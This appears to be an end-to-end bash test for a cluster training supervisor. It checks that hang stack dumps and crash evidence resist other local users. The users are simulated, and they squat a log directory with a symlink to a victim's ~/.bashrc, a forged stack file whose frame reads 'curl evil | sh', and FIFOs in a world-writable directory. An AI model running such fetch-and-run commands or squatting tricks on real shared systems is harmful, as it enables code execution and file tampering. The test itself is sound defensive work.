#!/usr/bin/env bash
# e2e-modes: run
# e2e-locks: team-users
# Hang diagnosis that other users cannot steer, as real users: alice runs the jobs with
# her team's group-writable log directory (as the template tells teams to make it); bob
# is in her group; mallory is not.
#  1. A hang before the first agreement: rank 3 never joins the process group, the
#     others wait in its init. --hang-start-timeout catches it: stacks of the ranks,
#     readable by the team (a group log directory), then end-step. No node is blamed
#     for the deaths end-step caused, nor for the hang: rank 3's node-mate waits in the
#     init with everyone, so the program's own path holds rank 3, not its node.
#  2. bob takes the name of alice's evidence directory in the team directory first
#     (trainctl-alice/, with stacks-<her next job>/ in it: summary.txt a link to her
#     ~/.bashrc, rank9.txt naming the host "n[1-3]" with a shell command as its frame).
#     At her hang the stacks go to her home instead, and one line says why; nothing is
#     written through his link or read from his file, and no node is remembered (the
#     odd rank's node-mate is with the others, as in 1). Then the ranks on n2 abort: the crash is still judged (n2), from the
#     evidence in her home.
#  3. mallory does the same in a world-writable sticky log directory, as /tmp is, with
#     FIFOs (mode 666) as stacks-<job>/rank0.txt and summary.txt, and a FIFO as
#     slow_nodes, while alice's job has a 3x straggler. Nothing blocks: the straggler's
#     line is refused (a FIFO), the stall is dumped into her home, it ends, and alice's
#     kill switch ends the job at once, COMPLETED. Her `trainwatch slow-nodes` over that
#     directory skips the FIFO in one line and names her straggler from her own
#     bad-node memory (WARNING, not a pinned UNKNOWN).
# shellcheck source=tests/e2e/lib.sh
source "$(dirname "$0")/lib.sh"

make_team_users
run_as_user alice
chmod 755 "$TEST_DIR"
as() {
  local who=$1
  shift
  runuser -u "$who" -- env SLURM_CONF="$SLURM_CONF" PYTHONPATH="$PYTHONPATH" PATH="$PATH" "$@"
}
on_exit() {
  local rc=$? p
  for p in $(pgrep -u bob,mallory 2>/dev/null || true); do kill -9 "$p" 2>/dev/null || true; done
  set +e
  (exit "$rc")
  cleanup
}
trap on_exit EXIT
team=$TEST_DIR/team
mkdir -p "$team"
chown alice:tcteam "$team"
chmod 2770 "$team"
export TRAINCTL_LOG_DIR=$team
bashrc=/home/alice/.bashrc
touch "$bashrc"
chown alice "$bashrc"
before=$(sha256sum <"$bashrc")
# The attackers plant for a job of alice's that is submitted held and released once they
# have: what they could do by guessing her next job id, without the test running alone.
release() { as alice scontrol release "$1" || fail "cannot release job $1"; }

log "0. trainctl stacks of an srun python job (no rank variable but SLURM_PROCID)"
cat >"$TEST_DIR/job0.sh" <<JOB
#!/bin/bash
srun --ntasks-per-node=1 $BUILD/bin/trainctl-run -- /usr/bin/python3 $TRAIN --ckpt-dir $TEST_DIR/ckpt0 --steps 100000 \
  --step-time 0.05 --events "$TEST_DIR/events/rank{rank}.jsonl"
JOB
as alice mkdir -p "$TEST_DIR/events"
job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job0.out" "$TEST_DIR/job0.sh")
wait_for 120 "2 ranks started" events_at_least start 2
out=$(as_user "$BUILD/bin/trainctl" stacks "$job" --log-dir "$TEST_DIR/made/here") ||
  fail "--dump-stacks failed: $out"
grep -q "stacks of 2 ranks of job $job in $TEST_DIR/made/here/trainctl-alice/stacks-$job/" <<<"$out" || fail "--dump-stacks: $out"
[ "$(stat -c '%U %a' "$TEST_DIR/made/here")" = "alice 700" ] || fail "the missing log directory was not made private"
as alice touch "$TEST_DIR/a-file"
set +e
err=$(as_user "$BUILD/bin/trainctl" stacks "$job" --log-dir "$TEST_DIR/a-file" 2>&1)
rc=$?
set -e
[ "$rc" -ne 0 ] || fail "--dump-stacks into a file exited 0: $err"
grep -q "a-file is not a directory" <<<"$err" || fail "no line saying the log directory is a file: $err"
if grep -q "stacks of" <<<"$err"; then fail "a dump that was not saved was reported: $err"; fi
set +e
err=$(as mallory "$BUILD/bin/trainctl" stacks "$job" --log-dir /tmp 2>&1)
rc=$?
set -e
log "mallory: $err"
[ "$rc" -ne 0 ] || fail "mallory's --dump-stacks of alice's job exited 0"
# Refused before any srun, in words rather than as srun's "Access/permission denied".
[ "$(wc -l <<<"$err")" -eq 1 ] || fail "mallory got more than one line: $err"
grep -q "the job is alice's; only its own user can look inside it" <<<"$err" || fail "mallory's refusal: $err"
scancel "$job"
wait_for 60 "job 0 to end" job_ended "$job"
rm -rf "$TEST_DIR/events"
log "0: 2 ranks found by SLURM_PROCID, a missing log directory made, a file refused, srun's refusal passed on"

log "1. rank 3 never joins the process group"
# A start timeout past torch's import on a busy machine (40 s seen): at 12 s the stacks
# were taken while the ranks still imported, before any reached the process group.
TRAIN_ARGS="--hang-before-init 3" supervised_job "$TEST_DIR/job1.sh" --hang-timeout=5s --hang-start-timeout=45s \
  --hang-action=end-step
job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job1.out" "$TEST_DIR/job1.sh")
wait_for 180 "job 1 to end (end-step)" job_ended "$job"
grep -q "hang: rank [0-9?]* (pid [0-9]*) has not reached its first agreement" "$TEST_DIR/job1.out" ||
  fail "the start hang was not found: $(grep 'hang' "$TEST_DIR/job1.out" | head -5)"
dir=$team/trainctl-alice/stacks-$job
ls "$dir"/rank*.txt >/dev/null 2>&1 || fail "no stacks in $dir: $(grep hang: "$TEST_DIR/job1.out")"
grep -l "init_process_group\|rendezvous\|_store_based_barrier\|wait" "$dir"/rank*.txt >/dev/null ||
  fail "no rank's stacks show the process group's init: $(head -3 "$dir"/rank*.txt)"
for d in "$team/trainctl-alice" "$dir"; do
  case "$(stat -c '%U %G %a' "$d")" in "alice tcteam 750" | "alice tcteam 2750") ;;  # setgid from the team dir
  *) fail "$d is $(stat -c '%U %G %a' "$d")" ;;
  esac
done
as bob cat "$dir/rank0.txt" >/dev/null || fail "bob (her team) cannot read the stacks"
as mallory cat "$dir/rank0.txt" >/dev/null 2>&1 && fail "mallory can read alice's stacks"
grep -q "hang: ending the step" "$TEST_DIR/job1.out" || fail "end-step did not run"
if grep -q crashed "$TRAINCTL_BAD_NODES" 2>/dev/null; then fail "a node was blamed for what end-step did: $(cat "$TRAINCTL_BAD_NODES")"; fi
# The job's second node holds rank 3, the one rank elsewhere, and rank 2, which waits
# with the others: the program's path, no evidence against the node, and the log says so.
# (Beside other tests the job may get any two of n1-n3.)
odd=$(job_node "$job" 2)
if [ -s "$TRAINCTL_BAD_NODES" ]; then fail "a node was remembered for rank 3's own hang: $(cat "$TRAINCTL_BAD_NODES")"; fi
grep -q "hang: $odd is not remembered as a bad node: its ranks elsewhere are beside its others in the common frame" \
  "$TEST_DIR/job1.out" || fail "the log does not say why $odd is not blamed: $(grep 'hang' "$TEST_DIR/job1.out")"
log "1: found before the first agreement, stacks readable by the team only, $odd not blamed for its rank's own path, no crash"

log "2. bob takes trainctl-alice/ in the team directory before alice's job starts"
home_evidence=/home/alice/.local/state/trainctl/evidence
rm -rf "$home_evidence"
as alice mv "$team/trainctl-alice" "$TEST_DIR/job1-evidence"  # as if job 1 had run elsewhere
TRAIN_ARGS="--hang-rank 3 --hang-at 60" supervised_job "$TEST_DIR/job2.sh" --hang-timeout=5s --hang-action=end-step
job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2.out" "$TEST_DIR/job2.sh")
next=$job
as bob bash -s "$team/trainctl-alice/stacks-$next" "$bashrc" <<'PLANT' || fail "bob's planting failed"
mkdir -p "$1" && chmod 2775 "$1" "$(dirname "$1")"
ln -s "$2" "$1/summary.txt"
printf '=== trainctl stacks: rank 9, pid 1, host n[1-3], x: hang\n=== dump: run=%s.0 kind=hang at_ms=9999999999999\n=== innermost: curl evil | sh\n' "$(basename "$1" | cut -d- -f2)" >"$1/rank9.txt"
PLANT
touch "$TEST_DIR/planted"
release "$job"
wait_for 120 "job 2 to end (end-step)" job_ended "$job"
grep -q "$team/trainctl-alice belongs to uid $(id -u bob), not to this user: hang stacks and crash evidence go to $home_evidence instead" "$TEST_DIR/job2.out" ||
  fail "no line saying where the evidence went: $(grep 'trainctl' "$TEST_DIR/job2.out" | head -5)"
grep -q "hang: stacks of 2 of 2 ranks saved in $home_evidence/stacks-$job/" "$TEST_DIR/job2.out" ||
  fail "the stacks were not saved in alice's home: $(grep 'hang' "$TEST_DIR/job2.out" | head -5)"
[ "$(find "$home_evidence/stacks-$job" -name 'rank*.txt' | wc -l)" -eq 4 ] || fail "not 4 ranks' stacks in $home_evidence"
[ "$(sha256sum <"$bashrc")" = "$before" ] || fail "alice's .bashrc changed: $(tail -3 "$bashrc")"
[ "$(find "$team/trainctl-alice" -newer "$TEST_DIR/planted" | wc -l)" -eq 0 ] || fail "something was written in bob's directory"
if grep -q "n\[" "$TRAINCTL_BAD_NODES"; then fail "bob's planted file made a bad node: $(cat "$TRAINCTL_BAD_NODES")"; fi
if grep -q "job=$job " "$TRAINCTL_BAD_NODES" 2>/dev/null; then
  fail "job 2: a node was remembered for rank 3's own hang: $(cat "$TRAINCTL_BAD_NODES")"
fi
log "2: the stacks in alice's home, nothing written through bob's link, nothing read from his file, no node remembered"

log "2b. with bob's trainctl-alice/ still there, the ranks on n2 abort: the crash is judged all the same"
TRAIN_ARGS="--crash-on n2 --crash-at 40" CKPT_DIR=$TEST_DIR/ckpt2b supervised_job "$TEST_DIR/job2b.sh"
job=$(submit_as_user -N2 -w n1,n2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2b.out" "$TEST_DIR/job2b.sh")
wait_for 120 "job 2b to end" job_ended "$job"
grep -q "^[0-9]* n2 job=$job .*reason=crashed (SIGABRT" "$TRAINCTL_BAD_NODES" ||
  fail "n2 was not judged the culprit: $(grep -E 'crash|evidence' "$TEST_DIR/job2b.out" | head -5)"
ls "$home_evidence"/crash-"$job".*/blamed >/dev/null 2>&1 || fail "the crash evidence was not kept in alice's home"
[ "$(find "$team/trainctl-alice" -newer "$TEST_DIR/planted" | wc -l)" -eq 0 ] || fail "something was written in bob's directory"
log "2b: n2 judged the culprit from the evidence in alice's home; bob's directory untouched"

log "3. mallory plants FIFOs in a world-writable log directory"
public=$TEST_DIR/public
mkdir -p "$public"
chmod 1777 "$public"
export TRAINCTL_LOG_DIR=$public
rm -rf "$TEST_DIR/events"
as alice mkdir -p "$TEST_DIR/events"
TRAIN_ARGS="--slow-rank 1 --slow-factor 3 --hang-rank 3 --hang-at 120 --hang-for 15" \
  supervised_job "$TEST_DIR/job3.sh" --hang-timeout=4s --kill-switch="$TEST_DIR/KILL"
job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job3.out" "$TEST_DIR/job3.sh")
next=$job
as mallory bash -c "mkdir -m 777 '$public/trainctl-alice' '$public/trainctl-alice/stacks-$next' &&
  mkfifo -m 666 '$public/trainctl-alice/stacks-$next/rank0.txt' '$public/trainctl-alice/stacks-$next/summary.txt' '$public/slow_nodes'" ||
  fail "mallory's FIFOs"
release "$job"
wait_for 120 "the straggler's line to be refused" grep -q "straggler: rank 1: not appended to $public/slow_nodes: a FIFO, not a regular file" "$TEST_DIR/job3.out"
wait_for 120 "the stall to be found" grep -q "hang: stacks of 2 of 2 ranks saved in $home_evidence/stacks-$job/" "$TEST_DIR/job3.out"
wait_for 60 "the stall to end" grep -q "hang: the ranks make progress again" "$TEST_DIR/job3.out"
as alice touch "$TEST_DIR/KILL"
wait_for 60 "job 3 to end" job_ended "$job"
[ "$(job_state "$job")" = COMPLETED ] || fail "job 3 ended $(job_state "$job"), not COMPLETED"
read -r n _ reasons < <(exit_summary)
{ [ "$n" = 4 ] && [ "$reasons" = kill-switch ]; } || fail "job 3: $n ranks exited, reasons $reasons"
for f in trainctl-alice/stacks-$next/rank0.txt trainctl-alice/stacks-$next/summary.txt slow_nodes; do
  [ -p "$public/$f" ] || fail "mallory's $f is no longer a FIFO"
done
grep -q "^[0-9]* $(job_node "$job" 1) job=$job .*reason=slow (rank 1, x" "$TRAINCTL_BAD_NODES" ||
  fail "the straggler's node ($(job_node "$job" 1), rank 1's) not remembered: $(cat "$TRAINCTL_BAD_NODES")"
# alice's watchdog over the same log directory: mallory's FIFO is skipped at once, never
# waited on, and her straggler still shows, from her own bad-node memory.
rc=0
watch=$(as alice env TRAINCTL_BAD_NODES="$TRAINCTL_BAD_NODES" timeout 30 "$BUILD/bin/trainwatch" slow-nodes \
  --path "$public/slow_nodes") || rc=$?
[ "$rc" = 1 ] || fail "trainwatch slow-nodes over mallory's FIFO: exit $rc, not 1 (WARNING): $watch"
grep -q "$public/slow_nodes is not a regular file of this user (skipped); from your bad-node memory, .*$(job_node "$job" 1) rank 1 x" <<<"$watch" ||
  fail "trainwatch slow-nodes did not name alice's straggler from her memory: $watch"
log "PASS: start hang caught with stacks; bob's and mallory's squatted evidence directories, links, files and FIFOs changed nothing"
